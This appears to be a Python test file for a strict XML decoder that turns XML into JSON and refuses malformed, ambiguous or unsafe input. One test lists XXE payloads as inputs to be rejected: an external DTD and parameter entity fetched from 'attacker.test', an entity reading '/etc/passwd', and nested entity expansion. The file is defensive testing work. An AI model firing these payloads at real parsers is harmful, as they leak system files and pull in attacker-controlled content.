from typing import cast
from xml.etree import ElementTree as ET

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from extproc.core.decoding import decode
from extproc.core.decoding.decoded import Decoded
from extproc.core.decoding.media_type import MediaType
from extproc.core.events import JSON
from extproc.core.rules import Limits
from extproc.errors import BodyError, Malformed, TypeMismatch, Undecodable

MEDIA = MediaType("application/xml")
LIMITS = Limits(depth=3, nodes=6)
XML = "{http://www.w3.org/XML/1998/namespace}"


def _element(name: str, *children: JSON, **attributes: JSON) -> dict[str, JSON]:
    return {"name": name, "attributes": attributes, "children": list(children)}


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"<a/>", _element("a")),
        (b"<a>x<b c='1' d=\"2\">y</b>z</a>", _element("a", "x", _element("b", "y", c="1", d="2"), "z")),
        (b" <a>\n <b/>\r\n</a>\n", _element("a", "\n ", _element("b"), "\n")),
        (b"<a>&lt;&amp;&gt;&quot;&apos;&#65;&#x41;</a>", _element("a", "<&>\"'AA")),
        (b"<a>1<![CDATA[<b>&c;]]>2</a>", _element("a", "1<b>&c;2")),
        (b"<a b='&#10;\n&lt;'/>", _element("a", b="\n <")),
        (b"<a xmlns='u'><b/></a>", _element("{u}a", _element("{u}b"))),
        (b"<x:a xmlns:x='u' x:b='1' c='2'/>", _element("{u}a", **{"{u}b": "1", "c": "2"})),
        (b"<a xml:lang='e'/>", _element("a", **{XML + "lang": "e"})),
        (b"<?xml version='1.0' encoding='UTF-8'?><a>\xc3\xa9</a>", _element("a", "é")),
        (b"\xef\xbb\xbf<a/>", _element("a")),
        (b"<!-- 1 --><a><!-- 2 --> <b/><!-- 3 --></a><!-- 4 -->", _element("a", " ", _element("b"))),
        (b"<a><b><c/></b></a>", _element("a", _element("b", _element("c")))),
    ],
)
def test_a_document_is_its_elements_attributes_and_texts_in_order(data: bytes, expected: dict[str, JSON]) -> None:
    assert decode(data, MEDIA, LIMITS) == Decoded(parsed=orjson.dumps(expected))


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE a><a/>",
        b"<!DOCTYPE a SYSTEM 'http://attacker.test/a.dtd'><a/>",
        b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        b"<!DOCTYPE a [<!ENTITY b '0'><!ENTITY c '&b;&b;'><!ENTITY d '&c;&c;'>]><a>&d;</a>",
        b"<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://attacker.test/'> %b;]><a/>",
        b"<!DOCTYPE a [<!ATTLIST a b CDATA 'c'>]><a/>",
        b"<a>&b;</a>",
        b"<a b='&c;'/>",
    ],
)
def test_a_document_type_and_every_entity_beyond_the_five_are_refused(data: bytes) -> None:
    with pytest.raises(Malformed):
        decode(data, MEDIA, LIMITS)


@pytest.mark.parametrize(
    "data",
    [
        b"x",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"<a/>x",
        b"x<a/>",
        b"<a b='1' b='2'/>",
        b"<a xmlns:x='u' xmlns:y='u' x:b='1' y:b='2'/>",
        b"<a b=1/>",
        b"<x:a/>",
        b"<a>\0</a>",
        b"<a>&#0;</a>",
        b"<a>&#xd800;</a>",
        b"<a>]]></a>",
        b"<?xml version='1.1'?><a/>",
        b" <?xml version='1.0'?><a/>",
        b"<?php x?><a/>",
        b"<a><?x y?></a>",
        b"<a>adm<!-- -->in</a>",
        b"<a><!-- -->admin</a>",
        b"<a>admin<!-- --></a>",
        b"<a>x<b/><!-- --></a>",
        b"<a><b><c><d/></c></b></a>",
        b"<a><b/><b/><b/><b/><b/><b/></a>",
        b"<a b='1' c='1' d='1' e='1' f='1' g='1'/>",
    ],
)
def test_what_is_not_well_formed_or_may_be_read_in_two_ways_is_malformed(data: bytes) -> None:
    with pytest.raises(Malformed):
        decode(data, MEDIA, LIMITS)


@pytest.mark.parametrize(
    ("charset", "data"),
    [
        ("iso-8859-1", b"<a/>"),
        ("us-ascii", b"<a/>"),
        ("utf-16", "<a/>".encode("utf-16")),
        ("", "<a/>".encode("utf-16")),
        ("", "<a/>".encode("utf-16-le")),
        ("", "<a/>".encode("utf-16-be")),
        ("", b"<?xml version='1.0' encoding='iso-8859-1'?><a/>"),
        ("utf-8", b"<?xml version='1.0' encoding='utf-7'?><a/>"),
        ("", b"<a>\xe9</a>"),
        ("", b"<a>\xed\xa0\x80</a>"),
    ],
)
def test_another_charset_is_undecodable_wherever_it_is_declared(charset: str, data: bytes) -> None:
    with pytest.raises(Undecodable):
        decode(data, MediaType(MEDIA.name, {"charset": charset}), LIMITS)


def test_a_json_object_or_array_is_no_xml() -> None:
    with pytest.raises(TypeMismatch):
        decode(b"[1]", MEDIA, LIMITS)


def test_brackets_and_escapes_in_names_values_and_texts_stay_as_they_are() -> None:
    data = rb"""<a xmlns:p='"\' p:b='["'>[<b/>[,\<b/>"]}</a>"""
    expected = _element("a", "[", _element("b"), "[,\\", _element("b"), '"]}', **{'{"\\}b': '["'})
    assert decode(data, MEDIA, Limits()).parsed == orjson.dumps(expected)


def test_a_depth_beyond_what_can_be_written_as_json_is_malformed_whatever_the_limit() -> None:
    deep = Limits(depth=1_000)
    assert decode(b"<a>" * 120 + b"</a>" * 120, MEDIA, deep).parsed
    with pytest.raises(Malformed):
        decode(b"<a>" * 121 + b"</a>" * 121, MEDIA, deep)


@pytest.mark.parametrize("name", ["application/xml", "text/xml", "application/soap+xml", "image/svg+xml"])
def test_every_xml_type_has_the_strict_reader(name: str) -> None:
    assert decode(b"<a/>", MediaType(name), LIMITS) == Decoded(parsed=orjson.dumps(_element("a")))
    with pytest.raises(Malformed):
        decode(b"<!DOCTYPE a><a/>", MediaType(name), LIMITS)


def _as_standard_library(element: ET.Element) -> dict[str, JSON]:
    children: list[JSON] = [element.text] if element.text else []
    for child in element:
        children.append(_as_standard_library(child))
        if child.tail:
            children.append(child.tail)
    return {"name": element.tag, "attributes": cast("JSON", element.attrib), "children": children}


_TOKENS = ["<a>", "</a>", "<b c='1'>", "</b>", "<a/>", "<x:a xmlns:x='u'/>", "é", " ", "&lt;", "&#10;", "<![CDATA[<]]>"]
_TOKENS += ["<!-- -->", "<a xmlns='v'>", "]]>", "&", "<", "\r\n", "<?p q?>", "<!DOCTYPE a>"]


@given(st.lists(st.sampled_from(_TOKENS), max_size=8).map("".join))
def test_a_soup_of_tokens_is_refused_or_read_as_the_standard_library_reads_it(soup: str) -> None:
    for data in (soup.encode(), f"<a>{soup}</a>".encode()):
        try:
            parsed = decode(data, MEDIA, Limits()).parsed
        except BodyError:
            continue
        assert parsed is not None
        assert orjson.loads(parsed) == _as_standard_library(ET.fromstring(data))  # noqa: S314 - our reader took it
